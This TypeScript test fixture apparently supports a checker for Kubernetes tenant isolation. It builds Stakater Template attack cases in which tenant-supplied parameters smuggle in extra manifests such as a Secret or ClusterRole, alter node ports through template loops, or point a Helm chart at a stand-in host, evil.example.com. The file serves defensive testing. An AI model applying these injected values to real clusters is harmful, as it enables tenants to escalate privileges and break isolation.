import type { ReadableFile } from '../../core/source/source.ts';
import { evil } from './grant-attacks.ts';
import { instance } from './template-attacks.ts';

/** A Template with a node port that a parameter can change without being printed, such as by a range or a condition. */
function service(name: string, before: string, port: string): string {
  return `apiVersion: templates.stakater.com/v1alpha1
kind: Template
metadata: {name: ${name}}
parameters: [{name: VALUE, value: "1"}]
resources:
  gotemplate: |
    ${before}
    apiVersion: v1
    kind: Service
    metadata: {name: x}
    spec:
      ports:
        - port: 80
          nodePort: {{ ${port} }}`;
}

const templates: ReadableFile = {
  path: 'platform/parameters.yaml',
  text: `apiVersion: templates.stakater.com/v1alpha1
kind: Template
metadata: {name: text}
parameters: [{name: VALUE, value: plain}, {name: KEY, value: key}]
resources:
  gotemplate: |
    apiVersion: v1
    kind: ConfigMap
    metadata: {name: text}
    data:
      {{ .KEY }}: {{ .VALUE }}
---
${service('count', '{{ $n := 0 }}{{ range until (int .VALUE) }}{{ $n = add $n 1 }}{{ end }}', '$n')}
---
${service('last', '{{ $n := 0 }}{{ range $i, $_ := until (int .VALUE) }}{{ $n = $i }}{{ end }}', '$n')}
---
${service('stop', '{{ $n := 0 }}{{ range until 400 }}{{ if eq . (int $.VALUE) }}{{ break }}{{ end }}{{ $n = . }}{{ end }}', '$n')}
---
${service('dict', '{{ $d := dict "n" 0 }}{{ range until (int .VALUE) }}{{ $_ := set $d "n" (add $d.n 1) }}{{ end }}', '$d.n')}
---
${service('choice', '', 'range until 400 }}{{ if eq . (int $.VALUE) }}{{ . }}{{ end }}{{ end')}
---
${service('fields', '{{ $n := 0 }}{{ $v := fromJson .VALUE }}{{ if not $v.a }}{{ $n = 1 }}{{ end }}', '$n')}
---
apiVersion: templates.stakater.com/v1alpha1
kind: Template
metadata: {name: omit}
parameters: [{name: VALUE}]
resources:
  gotemplate: |
    {{- $v := fromJson .VALUE }}
    apiVersion: networking.k8s.io/v1
    kind: Ingress
    metadata: {name: x}
    spec:
      rules:
        - http: {paths: [{path: /, pathType: Prefix, backend: {service: {name: x, port: {number: 80}}}}]}
          {{- if $v.host }}
          host: {{ $v.host }}
          {{- end }}
---
apiVersion: templates.stakater.com/v1alpha1
kind: Template
metadata: {name: whole}
parameters: [{name: VALUE}]
resources:
  manifests:
    - {apiVersion: v1, kind: ServiceAccount, metadata: {name: whole}, secrets: "\${{VALUE}}"}
---
apiVersion: templates.stakater.com/v1alpha1
kind: Template
metadata: {name: chart}
parameters: [{name: VALUE}]
resources:
  helm:
    chart: {repository: {name: redis, version: 1.0.0, repoUrl: "\${VALUE}"}}
`,
};

const tenant = { apiVersion: 'tenantoperator.stakater.com/v1beta3', kind: 'Tenant' };

/** The files of each attack through a parameter of a Template. */
export const parameterAttacks: Readonly<Record<string, readonly ReadableFile[]>> = {
  'a parameter that adds an object': attack('text', { VALUE: 'x\n---\napiVersion: v1\nkind: Secret' }),
  'a parameter that adds a field': attack('text', { VALUE: 'x\nimmutable: true' }),
  'a parameter as a key': attack('text', { KEY: 'other' }),
  'a parameter that is a list': attack('whole', { VALUE: '[{name: other}]' }),
  'a count of the iterations of a range': attack('count', { VALUE: '300' }),
  'the last index of a range': attack('last', { VALUE: '300' }),
  'a number at which a range stops': attack('stop', { VALUE: '300' }),
  'a counter in a dict': attack('dict', { VALUE: '300' }),
  'a number that a condition selects': attack('choice', { VALUE: '300' }),
  'a host that a missing field of a parameter omits': attack('omit', { VALUE: '{}' }),
  'a number that a missing field of a parameter selects': attack('fields', { VALUE: '{}' }),
  'a chart of its choice': attack('chart', { VALUE: 'https://evil.example.com' }),
  'a field that an instance of the platform reads': readByPlatform(
    'x\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: other}',
  ),
  'a role in a field that an instance of the platform reads': readByPlatform('x', 'ClusterRole'),
};

/** The Platform's directory contains an instance for the attacker's namespace, which reads a field of the attacker's Tenant. */
function readByPlatform(desc: string, kind = 'ConfigMap'): readonly ReadableFile[] {
  const apiVersion = 'templates.v2.stakater.com/v2alpha1';
  const metadata = { name: 'about', namespace: 'evil-dev' };
  const gotemplate = `apiVersion: ${kind === 'ConfigMap' ? 'v1' : 'rbac.authorization.k8s.io/v1'}\nkind: ${kind}\nmetadata: {name: about}\ndata:\n  about: {{ .parameters.about }}\n`;
  const objectFieldRef = { ...tenant, name: 'evil', jsonPath: '.spec.desc' };
  const spec = {
    templateRef: { name: 'about', namespace: 'evil-dev' },
    parameters: [{ name: 'about', valueFrom: { objectFieldRef } }],
  };
  const documents = [
    { apiVersion, kind: 'Template', metadata, spec: { parameters: [{ name: 'about' }], gotemplate } },
    { apiVersion, kind: 'TemplateInstance', metadata, spec },
  ];
  const about = documents.map((one) => JSON.stringify(one)).join('\n---\n');
  const own = { quota: 'small', namespaces: { withTenantPrefix: ['dev'] }, desc };
  return [
    { path: 'platform/tenants/evil.yaml', text: about },
    evil(JSON.stringify({ ...tenant, metadata: { name: 'evil' }, spec: own })),
  ];
}

function attack(template: string, values: Readonly<Record<string, string>>): readonly ReadableFile[] {
  const parameters = Object.entries(values).map(([name, value]) => ({ name, value }));
  return [templates, instance(template, parameters)];
}
